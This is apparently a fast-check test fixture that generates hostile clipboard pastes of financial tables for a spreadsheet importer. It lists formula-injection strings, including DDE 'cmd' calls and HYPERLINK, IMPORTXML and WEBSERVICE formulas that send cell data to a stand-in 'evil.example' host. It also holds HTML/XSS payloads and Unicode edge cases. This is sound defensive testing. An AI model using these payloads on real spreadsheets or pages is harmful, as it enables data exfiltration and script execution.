import fc from "fast-check";
import type { Pasted } from "../../src/source/index.ts";

/** In every hostile string, so that it is known again wherever it turns up. */
export const mark = "evil";

/** What would be a formula, a command or a link if a spreadsheet took it for one. */
const formulas = [
  `=HYPERLINK("http://${mark}.example/?"&A1,"Net income")`,
  `=cmd|'/c calc'!${mark}`,
  `+cmd|' /c ${mark}'!A0`,
  `-2+3+cmd|' /c ${mark}'!A0`,
  `@SUM(1+1)*cmd|' /c ${mark}'!A0`,
  `=IMPORTXML(CONCAT("http://${mark}.example/",A1),"//a")`,
  `=WEBSERVICE("http://${mark}.example/")`,
  `=1+1+${mark}`,
  `\t=${mark}()`,
  `\r=${mark}()`,
  `＝${mark}(1)`,
  `'=${mark}`,
  `"=${mark}","b"`,
  `[${mark}.xlsx]Sheet1!A1`,
  `{=${mark}}`,
];

/** What would run, load or lead away if a page took it for markup. */
const markup = [
  `<script>window.${mark}=1;document.title="${mark}"</script>`,
  `<img src=x onerror="window.${mark}=1">`,
  `<svg onload="window.${mark}=1"><text>1</text></svg>`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `<a href="javascript:window.${mark}=1">12</a>`,
  `<meta http-equiv="refresh" content="0;url=http://${mark}.example/">`,
  `<base href="http://${mark}.example/">`,
  `<link rel=stylesheet href="http://${mark}.example/">`,
  `<style>@import "http://${mark}.example/";*{display:none}</style>`,
  `<form action="http://${mark}.example/"><button>Write to workbook</button></form>`,
  `<object data="http://${mark}.example/"></object>`,
  `<math><mtext></table><img src=x onerror="window.${mark}=1"></mtext></math>`,
  `<template><img src=x onerror="window.${mark}=1"></template>`,
  `<details open ontoggle="window.${mark}=1"><summary>1</summary></details>`,
  `<!--${mark}--!><img src=x onerror="window.${mark}=1">-->`,
  `&lt;script&gt;window.${mark}=1&lt;/script&gt;`,
  `{{constructor.constructor("window.${mark}=1")()}}`,
  "<table><tr><td colspan=1000000 rowspan=1000000>1",
  "<table>".repeat(60),
];

/** What breaks programs that count letters, or people who read them. */
const letters = [
  `${mark}\uD83D`,
  `\uDC00${mark}`,
  "\u202E000,1\u202C",
  "\u2066(1,234\u2069)",
  "1\u200B2\u200B3",
  "\uFEFF42",
  "\u00AD\u0000\u0007\u001B[31m7",
  "١٬٢٣٤",
  "１，２３４",
  "9".repeat(400),
  `(${"1,".repeat(200)}000)`,
  "__proto__",
  "constructor",
  "1e308",
  "-0",
  "0x1F",
  "NaN",
  "Infinity",
  "a".repeat(40_000),
];

const plain = fc.constantFrom(
  "Revenue",
  "Total revenue",
  "Cost of revenue",
  "Net income",
  "Net income per share",
  "Total assets",
  "Cash and cash equivalents",
  "1,234",
  "(56.7)",
  "$ 89",
  "12 %",
  "–",
  "N/A",
  "2024",
  "",
);
const heads = fc.constantFrom(
  "Statements of Income",
  "Balance Sheets",
  "Statements of Cash Flows",
  "Reconciliation of Adjusted EBITDA",
  "(in thousands, except per share data)",
  "Three months ended March 31, 2024 and 2023",
  "Revenue rose 12 % to $1.2 million.",
);
const hostile = fc.constantFrom(...formulas, ...markup, ...letters);
const cell = fc.oneof({ weight: 5, arbitrary: plain }, { weight: 2, arbitrary: hostile }, fc.string({ maxLength: 12 }));
const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 });

/** A statement that could be one, with hostile cells in its title, its heads, its labels and among its figures. */
const grid = fc.record({ above: fc.array(fc.oneof(heads, hostile), { maxLength: 3 }), rows });

const asText = fc
  .record({ grid, between: fc.constantFrom("\t", "  ", "\n", " | ", ",") })
  .map(({ grid: { above, rows: lines }, between }) => [...above, ...lines.map((row) => row.join(between))].join("\n"));

// Not escaped: what is pasted is what somebody else's page holds.
const asHtml = grid.map(
  ({ above, rows: lines }) =>
    `${above.map((line) => `<p>${line}</p>`).join("")}<table>${lines
      .map((row) => `<tr>${row.map((each) => `<td>${each}</td>`).join("")}</tr>`)
      .join("")}</table>`,
);

/** What a hostile clipboard may hold: text alone, or a page with its text. */
export const hostilePaste: fc.Arbitrary<Pasted> = fc.oneof(
  asText.map((text) => ({ text })),
  fc.record({ text: asText, html: asHtml }),
);

/** All hostile strings at once, around a statement that can be read. */
export const everythingHostile: Pasted = {
  text: ["Statements of Income", "(in thousands)", "Revenue\t1,234\t1,100", ...formulas, ...markup, ...letters].join(
    "\n",
  ),
  html: `<p>Statements of Income</p><table><tr><td>Revenue</td><td>1,234</td></tr>${[...formulas, ...markup]
    .map((each) => `<tr><td>${each}</td><td>${each}</td></tr>`)
    .join("")}</table>`,
};
